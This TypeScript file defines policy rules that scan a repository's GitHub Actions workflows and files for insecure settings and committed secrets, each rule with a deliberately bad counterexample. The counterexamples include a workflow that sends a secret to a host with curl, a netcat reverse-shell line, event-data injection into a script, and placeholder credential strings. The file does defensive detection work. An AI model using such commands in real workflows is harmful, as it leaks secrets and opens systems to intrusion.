import { emptySystem, type Rule, type System } from './rule.ts';
import { looksLike, secretRuleIds } from './secret-patterns.ts';

const isWorkflow = (path: string): boolean => /^\.github\/workflows\/.*\.ya?ml$/.test(path);

const withFile = (path: string, text: string): System => ({ ...emptySystem, files: [{ path, text }] });
const withWorkflow = (text: string): System => withFile('.github/workflows/bad.yml', text);

/** A rule on the text of each workflow. */
const workflow = (id: string, title: string, isViolated: (text: string) => boolean, bad: string): Rule => ({
  id,
  title,
  reads: 'sources',
  findViolations: ({ files }) =>
    files.filter(({ path, text }) => isWorkflow(path) && isViolated(text)).map(({ path }) => path),
  counterexample: withWorkflow(bad),
});

/** The text of each `run:` of a workflow; a block ends where its indentation ends. */
function runScripts(text: string): readonly string[] {
  const lines = text.split('\n');
  return lines.flatMap((line, index) => {
    const [, key, first = ''] = /^( *(?:- )?)run: ?(.*)$/.exec(line) ?? [];
    if (key === undefined) return [];
    const rest = lines.slice(index + 1);
    const end = rest.findIndex((next) => next.trim() !== '' && next.search(/\S/) <= key.length);
    return [[first, ...rest.slice(0, end < 0 ? undefined : end)].join('\n')];
  });
}

// Hashes in lock files look like secrets.
const generatedFiles = /(^|\/)package-lock\.json$|\.terraform\.lock\.hcl$/;

/** Assembled from parts, so that this file itself contains no secret. */
const secretExamples: Readonly<Record<string, string>> = {
  CKV_SECRET_1: `key = AKC${'a1'.repeat(8)}`,
  CKV_SECRET_2: `AKIA${'A'.repeat(16)}`,
  CKV_SECRET_3: `AccountKey=${'a'.repeat(88)}`,
  CKV_SECRET_4: ['https://name', 'secret@example.com'].join(':'),
  CKV_SECRET_5: `cloudant = "${'a1'.repeat(32)}"`,
  CKV_SECRET_7: `ibm-cloud-key = "${'a'.repeat(44)}"`,
  CKV_SECRET_8: `cos_hmac = "${'a1'.repeat(24)}"`,
  CKV_SECRET_9: `eyJ${'a'.repeat(12)}.${'b'.repeat(12)}.${'c'.repeat(12)}`,
  CKV_SECRET_11: `${'a1'.repeat(16)}-us10`,
  CKV_SECRET_12: ['//registry.example.com/:_authToken', 'npm_abc'].join('='),
  CKV_SECRET_13: ['-----BEGIN ', 'PRIVATE KEY-----'].join(''),
  CKV_SECRET_14: ['xoxb', '123', 'abc'].join('-'),
  CKV_SECRET_15: `softlayer = "${'a1'.repeat(32)}"`,
  CKV_SECRET_16: `sq0csp-${'a'.repeat(43)}`,
  CKV_SECRET_17: `sk_live_${'a'.repeat(24)}`,
  CKV_SECRET_18: `AC${'a1'.repeat(16)}`,
};

/** Rules on the repository's files: workflows, and secrets in any file. */
export const sourceRules: readonly Rule[] = [
  workflow(
    'CKV2_GHA_1',
    'every GitHub workflow restricts its top-level permissions',
    (text) => !/^permissions:/m.test(text) || /^permissions: *write-all/m.test(text),
    'permissions: write-all\n',
  ),
  workflow(
    'CKV_GHA_1',
    'no GitHub workflow enables unsecure commands',
    (text) => text.includes('ACTIONS_ALLOW_UNSECURE_COMMANDS'),
    'env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n',
  ),
  workflow(
    'CKV_GHA_2',
    'no GitHub workflow interpolates event data into a script',
    (text) => runScripts(text).some((script) => /\$\{\{[^}]*(github\.event|github\.head_ref|inputs\.)/.test(script)),
    `steps:\n  - run: |\n      echo ${'$'}{{ github.event.issue.title }}\n`,
  ),
  workflow(
    'CKV_GHA_3',
    'no GitHub workflow passes a secret to curl',
    (text) => runScripts(text).some((script) => /\bcurl\b[^\n]*secrets\./.test(script)),
    `steps:\n  - run: curl example.com?${'$'}{{ secrets.KEY }}\n`,
  ),
  workflow(
    'CKV_GHA_4',
    'no GitHub workflow opens a reverse shell',
    (text) => runScripts(text).some((script) => /\b(?:nc|netcat)\b.*\d\.\d{1,3}\.\d{1,3}\.\d/.test(script)),
    'steps:\n  - run: nc 10.0.0.1 4444\n',
  ),
  workflow(
    'CKV_GHA_7',
    'no manually triggered GitHub workflow has inputs',
    (text) => /workflow_dispatch:[^\S\n]*\n\s+inputs:/.test(text),
    'on:\n  workflow_dispatch:\n    inputs:\n      environment: {}\n',
  ),
  ...secretRuleIds.map(
    (id): Rule => ({
      id,
      title: 'the repository contains no secret of this kind',
      reads: 'sources',
      findViolations: ({ files }) =>
        files.filter(({ path, text }) => !generatedFiles.test(path) && looksLike(id, text)).map(({ path }) => path),
      counterexample: withFile('bad.txt', secretExamples[id] ?? ''),
    }),
  ),
];
